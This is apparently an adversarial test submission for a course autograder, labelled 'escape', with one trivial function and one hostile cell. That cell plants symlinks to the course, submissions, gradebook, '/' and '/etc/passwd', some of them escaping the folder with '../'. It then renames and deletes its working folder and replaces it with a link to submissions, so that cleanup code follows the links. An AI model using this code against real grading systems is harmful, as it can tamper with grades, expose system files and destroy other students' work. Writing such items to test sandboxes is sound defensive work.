# tries = "Links to the course, the submissions and the gradebook, left where whoever cleans up would follow them"
# intenta = "Enlaces al curso, a las entregas y al libro de notas, dejados donde quien limpia los seguiría"
# kind = "escape"
# must = { points = 5 }

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
import shutil

for number, target in enumerate((COURSE, SUBMITTED, MARKED, GRADEBOOK, "/", "/etc/passwd")):
    for name in (f"link{number}", f"recording{number}.json", f"../link{number}"):
        try:
            os.symlink(target, name)
        except OSError:
            pass
place = os.getcwd()
try:  # the folder itself becomes a link
    os.chdir("/")
    os.rename(place, place + "-old")
    os.symlink(SUBMITTED, place)
except OSError:
    pass
try:
    shutil.rmtree(place, ignore_errors=True)
    os.symlink(SUBMITTED, place)
except OSError:
    pass
